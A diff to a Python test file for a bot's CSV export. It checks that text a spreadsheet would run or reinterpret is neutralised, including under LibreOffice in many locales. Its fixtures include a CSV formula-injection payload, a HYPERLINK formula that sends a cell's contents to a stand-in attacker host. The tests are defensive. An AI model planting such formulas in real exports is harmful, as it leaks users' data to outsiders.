@@ -12,6 +12,7 @@ import json
 import re
 import shutil
 import sqlite3
+import subprocess
 import sys
 import unicodedata
 import zipfile
@@ -36,7 +37,7 @@ from bot.engine import Session
 from bot.engine.answers import Parsed, parse
 from bot.engine.flow import NumberQuestion, Value
 from bot.errors import ConfigError
-from bot.exports.cells import BOM, Sheet, read_text, text_cell
+from bot.exports.cells import BOM, BOOLEAN_WORDS, MARK, Sheet, read_text, text_cell
 from bot.pii import hide_contact_details
 from bot.settings import Settings, load_settings
 from bot.store import Database, contacts, polls, sessions
@@ -482,23 +483,58 @@ def store_run(
     return session_id
 
 
+# Texts a spreadsheet would run, or show as something else (a number, a date, a time, a
+# percentage, a currency, a boolean): written after an invisible mark, so they come back
+# as the same text (see bot/exports/cells.py for why not an apostrophe).
 MARKED = (
     '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
     "=1+1",
     "@SUM(1)",
     "+1+1",
     "-1+1",
+    "-5",
     "\tstarts with a tab",
     "\rstarts with a carriage return",
-    "'quoted already",
+    MARK + "starts with the mark already",
     "0207",
     "1-2",
     "3/4",
     "1E5",
     "9:30",
+    "9:30 am",
     "50%",
+    "TRUE",
+    "false",
+    "True ",
+    "Prawda",
+    "درست",
+    "1.50",
+    "2.5",
+    "1,000",
+    " 12",
+    "$5",
+    "£5",
+    "(5)",
+    "1 1/2",
+    "Jan 5",
+    "5 Jan",
+    "May 2026",
+    "#N/A",
 )
-PLAIN = ("12", "plain words", "I said =1+1", "3 / 4 of us")
+# Texts no spreadsheet changes (or whole numbers it shows the same): written as they are.
+PLAIN = (
+    "12",
+    "0",
+    "yes",
+    "no",
+    "Tak",
+    "Housing",
+    "plain words",
+    "I said =1+1",
+    "'quoted",
+    "ID-4821",
+    "R-ABCDEFGH2345",
+)
 LONG_CODE = "12345678901234567"  # 17 digits: a spreadsheet would keep 15
 
 
@@ -523,15 +559,16 @@ def test_text_that_a_spreadsheet_would_run_or_change_is_marked_and_reads_back(
         shown = [read_text(cell) for cell in cells]
         if flags:
             assert shown[:-1] == [*MARKED, *PLAIN, LONG_CODE]
-            assert cells[-2] == "'" + LONG_CODE
-        else:  # no phone number has 17 digits (15 at most), so it is kept by default too
-            assert shown[:-1] == [*MARKED, *PLAIN, LONG_CODE]
+            assert cells[-2] == MARK + LONG_CODE
+        else:  # by default what could be a phone number is hidden (bot/pii.py decides)
+            assert shown[:-2] == [*MARKED, *PLAIN]
+            assert shown[-2] in (LONG_CODE, "[phone]")
         plain = len(MARKED) + len(PLAIN)
-        assert cells[: len(MARKED)] == ["'" + text for text in MARKED]
+        assert cells[: len(MARKED)] == [MARK + text for text in MARKED]
         assert cells[len(MARKED) : plain] == list(PLAIN)  # not marked
         years = header.index(next(name for name in header if name.startswith("years: ")))
         assert rows[-1][years] == "-5"  # a number question's answer is a number
-        assert rows[-1][years + 1] == "'-5"  # what the resident typed is text
+        assert rows[-1][years + 1] == MARK + "-5"  # what the resident typed is text
 
 
 @given(st.text())
@@ -539,6 +576,8 @@ def test_read_text_gives_back_any_text_cell(text: str) -> None:
     cell = text_cell(text)
     assert read_text(cell) == text
     assert not cell or cell[0] not in "=+-@\t\r"
+    bare = cell.strip()
+    assert not bare or not bare[0].isdecimal() or re.fullmatch(r"0|[1-9][0-9]{0,14}", cell)
 
 
 @given(st.lists(st.text(), min_size=1, max_size=4))
@@ -552,7 +591,220 @@ def test_a_sheet_reads_back_through_the_csv_module(texts: list[str]) -> None:
 def test_numbers_stay_numbers_and_empty_cells_stay_empty() -> None:
     out = io.StringIO(newline="")
     Sheet(out, ["n", "x", "blank", "t"]).write_all([[-5, 2.5, None, "-5"]])
-    assert out.getvalue().splitlines()[1] == "-5,2.5,,'-5"
+    assert out.getvalue().splitlines()[1] == f"-5,2.5,,{MARK}-5"
+
+
+def test_column_names_are_kept_for_programs_unless_a_spreadsheet_would_run_them() -> None:
+    out = io.StringIO(newline="")
+    Sheet(out, ["run", "0207", "=question"]).write_all([])
+    assert out.getvalue().splitlines() == [f"run,0207,{MARK}=question"]
+
+
+def test_the_quick_path_of_a_sheet_marks_what_text_cell_marks() -> None:
+    """Long and short texts, remembered or not, get the same cell as :func:`text_cell`."""
+    texts = [*MARKED, *PLAIN, "A longer answer starting with a letter", "TRUE", "0207"]
+    out = io.StringIO(newline="")
+    Sheet(out, ["a"] * len(texts)).write_all([texts, texts])
+    _, first, second = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    assert first == second == [text_cell(text) for text in texts]
+
+
+# -- 2b. the same text in LibreOffice ---------------------------------------------------------
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+needs_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+_ODF = {
+    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
+    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
+    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+}
+# LibreOffice's locales (Windows language ids): the shipped languages it has boolean words
+# for, English in the UK and the US, and the usual office languages.
+LOCALES = {
+    "en-GB": 2057,
+    "en-US": 1033,
+    "pl": 1045,
+    "ro": 1048,
+    "pt": 2070,
+    "es": 3082,
+    "uk": 1058,
+    "ar": 1025,
+    "fa": 1065,
+    "so": 1143,
+    "de": 1031,
+    "fr": 1036,
+    "it": 1040,
+    "nl": 1043,
+}
+
+
+@dataclass(frozen=True)
+class Shown:
+    """A cell as LibreOffice holds it: its type (string, float, boolean, date, time,
+    percentage, currency), its value for a number, and the text it shows."""
+
+    kind: str
+    value: str | None
+    text: str
+
+
+def _attribute(element: Any, prefix: str, name: str) -> str | None:
+    value = element.get(f"{{{_ODF[prefix]}}}{name}")
+    return None if value is None else str(value)
+
+
+def _paragraph(element: Any) -> str:
+    """The text of an ODF paragraph, with its tabs, runs of spaces and line breaks."""
+    parts = [element.text or ""]
+    for child in element:
+        name = child.tag.rsplit("}", 1)[-1]
+        if name == "tab":
+            parts.append("\t")
+        elif name == "s":
+            parts.append(" " * int(_attribute(child, "text", "c") or "1"))
+        elif name == "line-break":
+            parts.append("\n")
+        else:
+            parts.append(_paragraph(child))
+        parts.append(child.tail or "")
+    return "".join(parts)
+
+
+def open_in_libreoffice(
+    path: Path, profile: Path, locale: int, special_numbers: bool = True
+) -> list[list[Shown]]:
+    """Import the CSV file at ``path`` as LibreOffice does when it is opened (UTF-8,
+    commas, in ``locale``; with "detect special numbers" and "evaluate formulas", the
+    settings that change most) and give back every row's cells."""
+    from xml.etree import ElementTree
+
+    assert SOFFICE is not None
+    target = path.parent / f"{path.stem}-{locale}-{special_numbers}"
+    options = f"44,34,76,1,,{locale},false,{str(special_numbers).lower()},false,false,false,-1,true"
+    command = [
+        SOFFICE,
+        f"-env:UserInstallation={profile.as_uri()}",
+        "--headless",
+        f"--infilter=Text - txt - csv (StarCalc):{options}",
+        "--convert-to",
+        "fods",
+        "--outdir",
+        str(target),
+        str(path),
+    ]
+    converted = target / f"{path.stem}.fods"
+    for _ in range(3):  # LibreOffice now and then exits at once while its profile is busy
+        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
+        if converted.exists():
+            break
+    assert converted.exists(), done.stdout + done.stderr
+    document = ElementTree.parse(converted)
+    rows: list[list[Shown]] = []
+    for row in document.iter(f"{{{_ODF['table']}}}table-row"):
+        cells: list[Shown] = []
+        for cell in row.iter(f"{{{_ODF['table']}}}table-cell"):
+            repeated = min(int(_attribute(cell, "table", "number-columns-repeated") or "1"), 99)
+            kind = _attribute(cell, "office", "value-type") or "empty"
+            value = _attribute(cell, "office", "value") or _attribute(
+                cell, "office", "boolean-value"
+            )
+            text = "\n".join(_paragraph(p) for p in cell.iter(f"{{{_ODF['text']}}}p"))
+            cells.extend([Shown(kind, value, text)] * repeated)
+        while cells and cells[-1].kind == "empty":
+            cells.pop()  # the empty rest of the row
+        if cells:
+            rows.append(cells)
+    return rows
+
+
+@pytest.fixture(scope="module")
+def libreoffice(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A LibreOffice profile of the tests' own, made once."""
+    return tmp_path_factory.mktemp("libreoffice-profile")
+
+
+def _sheet_of_texts(path: Path, texts: Sequence[str]) -> None:
+    with path.open("w", encoding="utf-8", newline="") as out:
+        Sheet(out, ["text", "number"]).write_all([(text, -5) for text in texts])
+
+
+def _as_shown(text: str) -> str:
+    """``text`` as a spreadsheet holds it: a carriage return is a line break there."""
+    return text.replace("\r", "\n")
+
+
+def _same_text(rows: list[list[Shown]], texts: Sequence[str]) -> None:
+    for text, (cell, number) in zip(texts, rows[1:], strict=True):
+        assert cell.kind == "string", (text, cell)
+        assert read_text(cell.text) == _as_shown(text), (text, cell)
+        assert number == Shown("float", "-5", "-5"), text  # numbers stay numbers
+
+
+@needs_libreoffice
+@pytest.mark.parametrize("special_numbers", [True, False])
+def test_every_kind_of_cell_is_the_same_text_in_libreoffice(
+    tmp_path: Path, libreoffice: Path, special_numbers: bool
+) -> None:
+    texts = [*MARKED, *PLAIN, LONG_CODE, "2026-11-02", "2026-11-02T18:00:00+00:00", "1.5e3"]
+    path = tmp_path / "cells.csv"
+    _sheet_of_texts(path, texts)
+    rows = open_in_libreoffice(path, libreoffice, LOCALES["en-GB"], special_numbers)
+    for text, (cell, _) in zip(texts, rows[1:], strict=True):
+        if text == "12" or text == "0":  # a whole number is read as that number, shown the same
+            assert (cell.kind, cell.text) == ("float", text)
+            continue
+        assert cell.kind == "string", (text, cell)
+        assert read_text(cell.text) == _as_shown(text), (text, cell)  # the mark is invisible
+
+
+@needs_libreoffice
+@pytest.mark.parametrize("locale", sorted(LOCALES))
+def test_boolean_words_and_numbers_stay_text_in_every_locale(
+    tmp_path: Path, libreoffice: Path, locale: str
+) -> None:
+    """In its own language LibreOffice reads PRAWDA (Polish), RUN (Somali) or درست
+    (Persian) as a boolean, and 2.5 or 1,000 as a date or a number."""
+    texts = [
+        *sorted(BOOLEAN_WORDS),
+        *(word.upper() for word in sorted(BOOLEAN_WORDS)),
+        *("2.5", "1,000", "1.2.", "3/4", "1-2", "9:30", "50%", "5 Jan", "0207"),
+    ]
+    path = tmp_path / "words.csv"
+    _sheet_of_texts(path, texts)
+    _same_text(open_in_libreoffice(path, libreoffice, LOCALES[locale]), texts)
+
+
+@needs_libreoffice
+def test_without_the_mark_libreoffice_would_change_these_texts(
+    tmp_path: Path, libreoffice: Path
+) -> None:
+    """The test above would catch a missing mark: LibreOffice changes each of these
+    (so the mark is needed), and keeps an apostrophe (so it is not the mark to use)."""
+    changed = ["=1+1", "0207", "3/4", "9:30", "50%", "TRUE", "1E5", "$5", "Jan 5", "'quoted"]
+    path = tmp_path / "bare.csv"
+    path.write_text("text\n" + "\n".join(changed) + "\n", encoding="utf-8")
+    rows = open_in_libreoffice(path, libreoffice, LOCALES["en-US"])
+    for text, (cell,) in zip(changed[:-1], rows[1:-1], strict=True):
+        assert cell.kind != "string" or cell.text != text, (text, cell)
+    assert rows[-1] == [Shown("string", None, "'quoted")]  # the apostrophe is shown
+
+
+@needs_libreoffice
+def test_a_responses_export_opens_in_libreoffice_as_the_residents_wrote(
+    tmp_path: Path, libreoffice: Path
+) -> None:
+    seed(tmp_path, _texts)
+    out = export(tmp_path, "r.csv", "responses", "--flow", "priorities", "--with-addresses")
+    header = read_csv(out)[0]
+    rows = open_in_libreoffice(out, libreoffice, LOCALES["en-GB"])
+    assert [cell.text for cell in rows[0]] == header
+    more = header.index(flow_header("priorities")[-1])
+    for text, row in zip((*MARKED, *PLAIN, LONG_CODE), rows[1:], strict=False):
+        assert row[more].kind == ("float" if text in ("12", "0") else "string"), (text, row[more])
+        assert read_text(row[more].text) == _as_shown(text)
+    years = header.index(next(name for name in header if name.startswith("years: ")))
+    assert rows[-1][years] == Shown("float", "-5", "-5")
+    assert rows[-1][years + 1].kind == "string"
 
 
 # -- 3. no phone number, chat id or email in a default export ---------------------------------
